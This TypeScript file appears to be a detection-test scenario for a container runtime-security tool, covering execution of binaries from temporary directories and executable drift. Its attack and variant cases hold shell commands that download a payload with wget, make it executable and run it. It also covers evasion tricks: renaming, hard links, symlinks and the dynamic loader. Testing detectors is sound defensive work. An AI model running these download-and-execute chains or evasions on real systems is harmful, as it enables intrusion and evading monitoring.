// D19: running a file from a writable temporary location, or a binary the
// container created or made executable after it started (drift). The payload
// is downloaded for real from the web server on the network's remote end.
import { NET } from '../lib/net-plan';
import type { Scenario } from '../lib/types';

const RULE = 'Executable run from temporary directory or drifted in container';
const HOST_RULE = 'Executable run from temporary directory on host';
const GET = `wget -q http://${NET.web}/payload -O`;
const RUN = `connect ${NET.web} 80 'GET / HTTP/1.0'`;

export const d19: Scenario = {
  row: 'D19',
  title: 'Exec from /tmp, /var/tmp, /dev/shm, /run, or of a binary created or made executable after start (drift)',
  rules: [RULE, HOST_RULE],
  mitre: 'T1105',
  category: 'execution',
  cases: [
    {
      kind: 'attack',
      name: 'a payload downloaded to /tmp and run',
      script: `${GET} /tmp/payload && chmod +x /tmp/payload && /tmp/payload ${RUN}`,
      expect: [{ rule: RULE, proc: 'payload', fields: { 'proc.exepath': '/tmp/payload' } }],
    },
    {
      kind: 'variant',
      name: 'downloaded outside any temporary directory (/opt/app/worker): drift',
      evasion: ['another location'],
      script: `${GET} /opt/app/worker && chmod +x /opt/app/worker && /opt/app/worker ${RUN}`,
      expect: [{ rule: RULE, proc: 'worker', fields: { 'proc.exe_drift': true } }],
    },
    {
      kind: 'variant',
      name: 'downloaded as a .part file and renamed into place',
      evasion: ['rename-over'],
      script: `${GET} /opt/app/.w.part && chmod +x /opt/app/.w.part && mv /opt/app/.w.part /opt/app/server2 && /opt/app/server2 ${RUN}`,
      expect: [{ rule: RULE, proc: 'server2', fields: { 'proc.exe_drift': true } }],
    },
    {
      kind: 'variant',
      name: 'hard-linked to another directory and run from there',
      evasion: ['hard link'],
      script: `${GET} /opt/app/w && chmod +x /opt/app/w && ln /opt/app/w /srv/healthz && /srv/healthz ${RUN}`,
      expect: [{ rule: RULE, proc: 'healthz', fields: { 'proc.exepath': '/srv/healthz', 'proc.exe_drift': true } }],
    },
    {
      kind: 'variant',
      name: 'run through a symlink in /usr/local/sbin',
      evasion: ['symlink'],
      script: `${GET} /var/tmp/p && chmod +x /var/tmp/p && ln -s /var/tmp/p /usr/local/sbin/healthcheck && healthcheck ${RUN}`,
      expect: [{ rule: RULE, proc: 'healthcheck', fields: { 'proc.exepath_resolved': '/var/tmp/p' } }],
    },
    {
      kind: 'variant',
      name: 'a file of the image made executable (chmod +x) and run',
      evasion: ['another path'],
      script: `chmod +x /opt/tools/report && /opt/tools/report ${RUN}`,
      expect: [{ rule: RULE, proc: 'report', fields: { 'proc.exe_drift': true } }],
    },
    {
      kind: 'variant',
      name: 'never executable: run by the dynamic loader',
      evasion: ['another tool'],
      script: `${GET} /tmp/lib.so && /lib64/ld-linux-x86-64.so.2 /tmp/lib.so ${RUN}`,
      expect: [{ rule: RULE, proc: /^ld-linux/, cmdline: /ld-linux-x86-64\.so\.2 \/tmp\/lib\.so/ }],
    },
    {
      kind: 'variant',
      name: 'a host process run from /tmp',
      evasion: ['another location'],
      hostProcName: 'kt-tmp-payload',
      script: 'true',
      expect: [{ rule: HOST_RULE, proc: 'kt-tmp-payload', pname: 'node', tags: ['T1105', 'execution'] }],
    },
    {
      kind: 'benign',
      name: 'the image\'s own programs run; a downloaded file is only read',
      script: `/usr/local/bin/attackops ${RUN} > /dev/null; ls / > /dev/null; wget -q -O /tmp/data http://${NET.web}/data && cat /tmp/data > /dev/null`,
      marker: 'exec',
    },
  ],
};
